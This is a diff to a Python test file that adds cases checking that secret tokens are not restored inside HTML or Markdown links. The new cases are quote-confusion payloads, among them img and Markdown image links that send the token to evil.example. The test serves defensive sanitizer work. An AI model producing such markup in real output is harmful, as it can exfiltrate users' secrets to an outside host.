@@ -139,6 +139,12 @@ def test_tokens_restore_only_when_they_authenticate() -> None:
         '<img alt="a" SRC = "x {h}">',
         '<div style="background:url({h})">',
         '<link rel="x" srcset="a.png 1x, {h} 2x">',
+        # A quote outside a value is part of an attribute name (HTML), not an opening quote:
+        # it must not hide the attributes and links that follow.
+        '<x \'> <img src="//evil.example/?{h}">',
+        "<x title=a'b src=//evil.example/{h}>",
+        "<x \"> <a href='/u/{h}'>",
+        "<x '> ![a](//evil.example/{h})",
     ],
 )
 def test_nothing_is_restored_inside_links_and_markup(template: str) -> None:
